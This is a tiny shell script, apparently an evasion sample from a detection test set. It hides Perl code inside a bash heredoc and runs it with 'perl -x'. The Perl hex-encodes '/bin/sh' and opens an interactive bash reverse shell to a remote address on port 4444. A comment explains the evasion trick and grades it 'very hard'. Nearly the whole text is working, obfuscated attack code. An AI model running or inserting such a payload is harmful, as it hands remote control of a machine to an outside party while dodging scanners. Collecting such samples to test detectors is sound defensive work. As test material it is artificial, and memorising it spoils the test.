# evasion: perl -x runs the Perl that follows a #!perl line in this very script; for bash that text is a heredoc given to ':'
# grade: very hard; does: shell
: <<'NOTES'
#!perl
my $c = pack("H*", "2f62696e2f7368");
exec { $c } "sh", "-c", "bash -i >& /dev/tcp/203.0.113.82/4444 0>&1";
__END__
NOTES
perl -x "$0"
